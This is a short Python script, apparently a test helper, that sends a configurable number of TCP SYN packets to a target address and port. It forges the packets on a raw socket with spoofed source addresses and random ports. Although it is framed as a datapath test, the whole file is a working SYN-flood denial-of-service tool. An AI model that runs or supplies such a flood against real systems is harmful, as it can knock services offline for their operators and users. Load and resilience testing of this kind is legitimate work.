#!/usr/bin/env python3
"""A SYN flood for the datapath test: COUNT TCP SYNs to VIP:PORT from
spoofed sources (the addresses FIRST.. of the client's /24, random ports)
that never answer.

  syn_flood.py VIP PORT COUNT SOURCE_PREFIX FIRST LAST

e.g. syn_flood.py 203.0.113.10 80 3000 192.0.2. 100 250
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    vip, port, count, prefix, first, last = sys.argv[1:7]
    port, count, first, last = int(port), int(count), int(first), int(last)
    seed = random.randrange(1 << 32)
    print(f"# syn_flood seed {seed}")
    rnd = random.Random(seed)
    dst = socket.inet_aton(vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for _ in range(count):
        src = socket.inet_aton(prefix + str(rnd.randint(first, last)))
        sport = rnd.randint(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, port, rnd.randrange(1 << 32), 0,
                          5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                         socket.IPPROTO_TCP, 0, src, dst)
        s.sendto(ip + tcp, (vip, 0))
    took = time.monotonic() - start
    print(f"# syn_flood: {count} SYNs in {took:.2f} s, {count / took:.0f} a second")


if __name__ == "__main__":
    main()
